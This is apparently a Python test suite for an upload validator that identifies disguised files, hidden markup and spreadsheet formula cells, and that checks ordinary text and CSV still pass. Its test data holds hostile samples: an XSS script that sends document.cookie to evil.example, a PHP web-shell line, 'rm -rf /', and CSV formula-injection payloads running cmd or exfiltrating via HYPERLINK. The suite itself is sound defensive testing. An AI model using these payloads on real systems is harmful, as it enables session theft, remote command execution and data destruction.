"""The type comes from the content: disguised files are named for what they are; text and CSV."""
from __future__ import annotations

import os

import pytest

from evidence.errors import ACCEPTED_TYPES, IntakeError
from evidence.text import looks_like_csv
from tests.evidence.corpus import intake, refusal


def test_html_named_jpg_is_refused_as_html():
    message = refusal(b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "holiday.jpg")
    assert message == f"This file is an HTML document, not one of the accepted types: {ACCEPTED_TYPES}."


def test_windows_executable_named_jpg_is_refused():
    message = refusal(b"MZ\x90\x00\x03\x00\x00\x00" + os.urandom(200), "photo.jpg")
    assert message.startswith("This file is a Windows program (EXE/DLL), not one of the accepted types")


def test_linux_executable_named_jpg_is_refused():
    message = refusal(b"\x7fELF\x02\x01\x01\x00" + bytes(200), "photo.jpg")
    assert message.startswith("This file is a Linux program (ELF executable), not one of the accepted types")


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "a GIF image"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "an old-style Office document"),
        (b"#!/bin/sh\nrm -rf /\n", "a script"),
        (b"\x1f\x8b\x08\x00" + bytes(20), "a gzip archive"),
        (b"Rar!\x1a\x07\x01\x00" + bytes(20), "a RAR archive"),
        (b"{\\rtf1\\ansi hello}", "an RTF document"),
        (b"PK\x05\x06" + bytes(18), "an empty ZIP archive"),
        (b"\x00\x00\x00\x20ftypavif\x00\x00\x00\x00avifmif1miaf" + bytes(40), "an AVIF image"),
        (b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00isommp42" + bytes(40), "a video or audio file"),
        (b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(30), "a WAV audio file"),
        (b"BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00" + bytes(40), "a BMP image"),
    ],
)
def test_other_binary_types_are_named(data, found):
    message = refusal(data, "evidence.pdf")
    assert message.startswith(f"This file is {found}")
    assert message.endswith(f"accepted types: {ACCEPTED_TYPES}.")


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("  <html><head></head></html>", "an HTML document"),
        ("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "an SVG image"),
        ("<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "an SVG image"),
        ("<?xml version='1.0'?><note>hi</note>", "an XML document"),
        ("<script>alert(1)</script>", "an HTML document"),
        ("\ufeff<!doctype HTML>", "an HTML document"),
        ("<?php system($_GET['c']); ?>", "a PHP script"),
        ("<div>hello</div>", "an HTML or XML document"),
        (
            "Dear team,\nplease see <iframe src=x></iframe>\n",
            "a text file containing HTML, XML or script (on line 2: '<iframe')",
        ),
    ],
)
def test_markup_disguised_as_text_is_refused(text, found):
    assert refusal(text.encode("utf-8"), "notes.txt").startswith(f"This file is {found}, not one")


def test_plain_text_is_accepted_unchanged():
    data = "Safeguarding review — 3 May.\nAll staff trained ✓\n".encode()
    result = intake(data, "review")
    assert (result.mime_type, result.extension, result.kind) == ("text/plain", ".txt", "text")
    assert result.display_name == "review.txt"
    assert result.content == data


def test_text_with_bom_and_a_less_than_sign_is_text():
    result = intake("\ufeffwaiting time <2 weeks\nall good\n".encode("utf-8"), "note.txt")
    assert result.mime_type == "text/plain"


@pytest.mark.parametrize(
    "data",
    [
        b"name,role,trained\nAsha,Advocate,2024-01-03\nBen,Manager,2023-11-20\n",
        b"name;role\r\nAsha;Advocate\r\nBen;Manager\r\n",
        b"name\trole\nAsha\tAdvocate\nBen\tManager\n",
        b'"Name","Notes"\n"Asha","said ""yes"", then left"\n"Ben","multi\nline"\n',
        "\ufeffa,b\n1,2\n".encode(),
    ],
)
def test_csv_is_recognised(data):
    result = intake(data, "staff.txt")
    assert (result.mime_type, result.extension, result.display_name) == ("text/csv", ".csv", "staff.csv")


@pytest.mark.parametrize(
    "text",
    [
        "One line, with a comma.",
        "Minutes of the meeting.\nWe agreed, after some debate, to review the policy.\nNext meeting in May.\n",
        "a,b,c\n1,2\n3,4,5,6\n",
    ],
)
def test_prose_is_not_csv(text):
    assert not looks_like_csv(text)


def test_utf16_text_is_refused_with_advice():
    message = refusal("hello world\n".encode("utf-16"), "notes.txt")
    assert message.startswith("This file is text in UTF-16 encoding (save it as UTF-8")


def test_utf16_without_bom_is_refused_as_utf16():
    assert "UTF-16" in refusal("hello world, how are you\n".encode("utf-16-le"), "notes.txt")


def test_legacy_encoded_text_is_refused_with_advice():
    message = refusal("Café policy — naïve résumé\n".encode("cp1252"), "notes.txt")
    assert message.startswith("This file is text that is not in UTF-8")


def test_random_binary_is_refused():
    data = bytes(range(1, 256)) * 4 + b"\x00"
    assert refusal(data, "data.txt").startswith("This file is binary data of an unknown kind")


def test_text_with_control_characters_is_refused():
    message = refusal(b"hello\x1b[31m red\x07\n", "log.txt")
    assert "text with control characters (found U+001B)" in message


def test_empty_file_is_refused():
    with pytest.raises(IntakeError, match="This file is empty") as caught:
        intake(b"", "empty.pdf")
    assert caught.value.code == "empty"


def test_blank_text_is_refused():
    assert "holds no text" in refusal("\ufeff  \n\n".encode(), "blank.txt")


def test_file_over_the_size_limit_is_refused_with_the_limit_in_mb():
    message = refusal(b"a" * (3 * 1024 * 1024 + 1), "big.txt", max_bytes=3 * 1024 * 1024)
    assert message == "This file is 3.0 MB; the limit is 3 MB."


def test_errors_are_value_errors_with_codes():
    with pytest.raises(ValueError) as caught:
        intake(b"\x7fELF" + bytes(10), "x")
    assert caught.value.code == "type"


FILLER = "Fire drill held on the first Monday and everyone was out in four minutes.\n" * 200


@pytest.mark.parametrize(
    "hidden",
    [
        "<script>fetch('https://evil.example/?'+document.cookie)</script>",
        "<svg xmlns='http://www.w3.org/2000/svg'><circle r='4'/></svg>",
        "<html><body>hi</body></html>",
        "<?xml version='1.0'?><note/>",
        "<!DOCTYPE html>",
        "<IMG SRC=x onerror=alert(1)>",
        "<a href='#' onclick = 'steal()'>open</a>",
        "<b style=x onmouseover=alert(1)>hover</b>",
        "see javascript:alert(document.domain) for details",
        "link: JaVa\tScRiPt:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "<iframe src='https://evil.example'></iframe>",
    ],
)
def test_markup_after_the_first_kilobyte_is_refused(hidden):
    data = (FILLER + hidden + "\n" + FILLER).encode()
    assert len(FILLER) > 10_000
    message = refusal(data, "drill-log.txt")
    assert message.startswith("This file is a text file containing HTML, XML or script (on line 201")


@pytest.mark.parametrize(
    "text",
    [
        "waiting time <2 weeks and >1 day\n",
        "the on-call rota: Asha <asha at example dot org> (on=duty)\n",
        "We use Java and JavaScript sparingly; scripts are reviewed.\n",
        "Ratio 3 < 4 and formula a<b>c\n",
    ],
)
def test_ordinary_text_with_angle_brackets_or_script_words_is_accepted(text):
    assert intake((FILLER + text).encode(), "notes.txt").mime_type == "text/plain"


@pytest.mark.parametrize(
    "row",
    [
        'Fire exits,=cmd|"/C calc"!A0',
        "Fire exits;=cmd|' /C calc'!A0,open",  # one cell in a comma file, two where ; splits
        'Exit plan,"=HYPERLINK(""https://evil.example/?""&A1,""open"")"',
        'Exit plan,"=1+1"',
        "Exit plan,@SUM(1+1)*cmd|' /C calc'!A0",
        "Exit plan,+A1+cmd|' /C calc'!A0",
        "Exit plan,-2+3+cmd|' /C calc'!A0",
        "Exit plan,\t=1+1",
    ],
)
def test_csv_with_a_formula_cell_anywhere_is_refused(row):
    data = ("item,status\n" + "Door lock,checked\n" * 500 + row + "\n").encode()
    with pytest.raises(IntakeError) as caught:
        intake(data, "checks.csv")
    assert caught.value.code == "text"
    assert str(caught.value).startswith("This CSV file has a cell that a spreadsheet would run as a formula (line 502")
    assert "Remove the leading =, +, - or @" in str(caught.value)


def test_csv_with_negative_numbers_and_phone_numbers_is_accepted():
    data = b"name,phone,balance\nHelpline,+44 20 7946 0000,-5.50\nRefuge,-,+3\nOffice,(020) 7946-0001,-\n"
    result = intake(data, "contacts.csv")
    assert result.mime_type == "text/csv" and result.content == data


def test_csv_with_a_full_width_formula_sign_is_refused():
    data = "item,status\nDoor lock,checked\nExit,\uff1dcmd|' /C calc'!A0\n".encode()
    assert "would run as a formula (line 3" in refusal(data, "checks.csv")
